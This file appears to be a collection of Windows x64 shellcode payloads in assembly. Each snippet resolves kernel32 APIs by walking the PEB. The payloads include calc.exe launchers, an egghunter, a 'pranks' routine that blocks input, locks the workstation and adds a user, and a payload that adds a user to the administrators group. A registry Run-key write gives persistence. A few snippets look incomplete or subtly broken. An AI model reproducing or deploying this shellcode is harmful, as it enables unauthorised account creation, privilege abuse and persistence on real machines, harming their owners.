; Windows, 64 bit: walks to kernel32, hunts for a mark, functions that pranks call.

;= win64_gs30 64 | windows x86_64 | execute calc.exe
	cld
	xor eax, eax
	mov rax, [gs:rax + 0x30]
	mov rax, [rax + 0x60]
	mov rax, [rax + 0x18]
	mov rax, [rax + 0x10]
	mov rax, [rax]
	mov rax, [rax]
	mov rdi, [rax + 0x30]
	mov ebx, [rdi + 0x3c]
	add rbx, rdi
	mov edx, [rbx + 0x88]
	add rdx, rdi
	mov esi, [rdx + 0x20]
	add rsi, rdi
	xor ecx, ecx
s:	mov ebx, [rsi + rcx * 4]
	add rbx, rdi
	inc ecx
	mov r8, 'GetProcA'
	cmp [rbx], r8
	jne s
	mov esi, [rdx + 0x24]
	add rsi, rdi
	mov cx, [rsi + rcx * 2 - 2]
	mov esi, [rdx + 0x1c]
	add rsi, rdi
	mov ebx, [rsi + rcx * 4]
	add rbx, rdi
	and rsp, -16
	push 0
	mov rax, 'WinExec'
	push rax
	mov rdx, rsp
	mov rcx, rdi
	sub rsp, 0x30
	call rbx
	xor edx, edx
	inc edx
	mov rcx, 'calc.exe'
	push 0
	push rcx
	mov rcx, rsp
	sub rsp, 0x30
	call rax

;= win64_blockapi 64 | windows x86_64 | execute calc.exe
	cld
	and rsp, -16
	call start
	push r9
	push r8
	push rdx
	push rcx
	push rsi
	xor rdx, rdx
	mov rdx, [gs:rdx + 0x60]
	mov rdx, [rdx + 0x18]
	mov rdx, [rdx + 0x20]
nm:	mov rsi, [rdx + 0x50]
	movzx rcx, word [rdx + 0x4a]
	xor r9, r9
lm:	xor rax, rax
	lodsb
	cmp al, 'a'
	jl nl
	sub al, 0x20
nl:	ror r9d, 13
	add r9d, eax
	loop lm
	push rdx
	push r9
	mov rdx, [rdx + 0x20]
	mov eax, [rdx + 0x3c]
	add rax, rdx
	mov eax, [rax + 0x88]
	test rax, rax
	jz gn1
	add rax, rdx
	push rax
	mov ecx, [rax + 0x18]
	mov r8d, [rax + 0x20]
	add r8, rdx
gf:	jrcxz gn
	dec rcx
	mov esi, [r8 + rcx * 4]
	add rsi, rdx
	xor r9, r9
lf:	xor rax, rax
	lodsb
	ror r9d, 13
	add r9d, eax
	cmp al, ah
	jne lf
	add r9, [rsp + 8]
	cmp r9d, r10d
	jnz gf
	pop rax
	mov r8d, [rax + 0x24]
	add r8, rdx
	mov cx, [r8 + 2 * rcx]
	mov r8d, [rax + 0x1c]
	add r8, rdx
	mov eax, [r8 + 4 * rcx]
	add rax, rdx
	pop r8
	pop r8
	pop rsi
	pop rcx
	pop rdx
	pop r8
	pop r9
	pop r10
	sub rsp, 0x20
	push r10
	jmp rax
gn:	pop rax
gn1:	pop r9
	pop rdx
	mov rdx, [rdx]
	jmp nm
start:	pop rbp
	mov rdx, 1
	lea rcx, [rbp + cmd - $$ - 10]
	lea rcx, [rel cmd]
	mov r10d, 0x876f8b31
	call rbp
	mov r10d, 0x56a2b5f0
	xor ecx, ecx
	call rbp
cmd:	db 'calc.exe', 0

;= win64_egg 64 | windows x86_64 | -
	xor rdx, rdx
	xor r9, r9
	push rdx
	pop rbx
p:	or bx, 0xfff
n:	inc rbx
	lea rcx, [rbx + 8]
	mov r10, rcx
	push 0x29
	pop rax
	xor edx, edx
	syscall
	cmp al, 5
	je p
	mov rdi, rbx
	mov rax, 0x7430307774303077
	scasq
	jne n
	jmp rdi

;= win64_name_length 64 | windows x86_64 | -
	sub rsp, 0x28
	and rsp, -16
	xor rcx, rcx
	mov rax, [gs:rcx + 60h]
	mov rax, [rax + 18h]
	mov rsi, [rax + 30h]
m:	mov rbx, [rsi + 10h]
	mov rdi, [rsi + 40h]
	mov rsi, [rsi]
	cmp [rdi + 12 * 2], cx
	jne m
	mov r13d, [rbx + 3ch]
	mov r14d, [rbx + r13 + 88h]
	add r14, rbx
	mov r10d, [r14 + 18h]
f:	dec r10d
	mov esi, [r14 + 20h]
	add rsi, rbx
	mov esi, [rsi + r10 * 4]
	add rsi, rbx
	mov rax, 'LoadLibr'
	cmp [rsi], rax
	jne f
	cmp byte [rsi + 11], 'A'
	jne f
	mov esi, [r14 + 24h]
	add rsi, rbx
	movzx r10d, word [rsi + r10 * 2]
	mov esi, [r14 + 1ch]
	add rsi, rbx
	mov eax, [rsi + r10 * 4]
	add rax, rbx
	call q
	db 'user32.dll', 0
q:	pop rcx
	call rax

;= win64_pranks 64 | windows x86_64 | user kenbi
%include "windows64_calls.inc"
HASH64 beep, 'Beep'
HASH64 swap, 'BlockInput'
HASH64 lockw, 'LockWorkStation'
HASH64 sysm, 'system'
HASH64 adj, 'RtlAdjustPrivilege'
HASH64 xp, 'ExitProcess'
	RESOLVER64
	mov ecx, 500
	mov edx, 500
	CALL64 rbx, beep
	lea rcx, [rel l1]
	CALL64 rbx, load_library
	mov rsi, rax
	mov ecx, 1
	CALL64 rsi, swap
	CALL64 rsi, lockw
	lea rcx, [rel l2]
	CALL64 rbx, load_library
	mov rsi, rax
	lea rcx, [rel c]
	CALL64 rsi, sysm
	lea rcx, [rel l3]
	CALL64 rbx, load_library
	mov rsi, rax
	mov ecx, 19
	mov edx, 1
	CALL64 rsi, adj
	xor ecx, ecx
	CALL64 rbx, xp
l1: db 'user32.dll', 0
l2: db 'msvcrt.dll', 0
l3: db 'ntdll.dll', 0
c: db 'net user kenbi pw /add', 0

;= w64_winexec_null_free 64 | windows x86_64 | execute calc.exe
	push byte 0x60
	pop rdx
	mov rdx, [gs:rdx]
	mov rsi, [rdx + 0x18]
	mov rsi, [rsi + 0x10]
	lodsq
	mov rsi, [rax]
	mov rdi, [rsi + 0x30]
	mov edx, [rdi + 0x3c]
	mov ebx, [rdi + rdx + 0x88]
	mov esi, [rdi + rbx + 0x20]
	add rsi, rdi
	mov edx, [rdi + rbx + 0x24]
f:	movzx ebp, word [rdi + rdx]
	lea edx, [rdx + 2]
	lodsd
	cmp dword [rdi + rax], 'WinE'
	jne f
	mov esi, [rdi + rbx + 0x1c]
	add rsi, rdi
	mov esi, [rsi + rbp * 4]
	add rdi, rsi
	xor ecx, ecx
	push rcx
	mov rcx, 'calc.exe'
	push rcx
	push rsp
	pop rcx
	push byte 1
	pop rdx
	sub rsp, 0x28
	call rdi

;= w64_msgbox_dyn 64 | windows x86_64 | call MessageBoxA
%include "windows64_calls.inc"
HASH64 mb, 'MessageBoxA'
HASH64 xp, 'ExitProcess'
	RESOLVER64
	lea rcx, [rel l1]
	CALL64 rbx, load_library
	mov rsi, rax
	xor ecx, ecx
	lea rdx, [rel t]
	lea r8, [rel t]
	xor r9d, r9d
	CALL64 rsi, mb
	xor ecx, ecx
	CALL64 rbx, xp
l1:	db 'user32.dll', 0
t:	db 'hello', 0

;= w64_adduser 64 | windows x86_64 | execute net user
%include "windows64_calls.inc"
HASH64 we, 'WinExec'
HASH64 xp, 'ExitProcess'
	RESOLVER64
	lea rcx, [rel c]
	xor edx, edx
	CALL64 rbx, we
	xor ecx, ecx
	CALL64 rbx, xp
c:	db 'cmd.exe /c net user a b /add & net localgroup administrators a /add', 0

;= w64_reg_run 64 | windows x86_64 | call RegCreateKeyExA
%include "windows64_calls.inc"
HASH64 rc, 'RegCreateKeyExA'
HASH64 rs, 'RegSetValueExA'
	RESOLVER64
	lea rcx, [rel l]
	CALL64 rbx, load_library
	mov rsi, rax
	sub rsp, 0x60
	mov rcx, 0xffffffff80000001
	lea rdx, [rel k]
	xor r8d, r8d
	xor r9d, r9d
	lea rax, [rsp + 0x50]
	mov [rsp + 0x38], rax
	CALL64 rsi, rc
	mov rcx, [rsp + 0x50]
	lea rdx, [rel v]
	xor r8d, r8d
	mov r9d, 1
	CALL64 rsi, rs
l:	db 'advapi32.dll', 0
k:	db 'Software\Microsoft\Windows\CurrentVersion\Run', 0
v:	db 'kenbi', 0
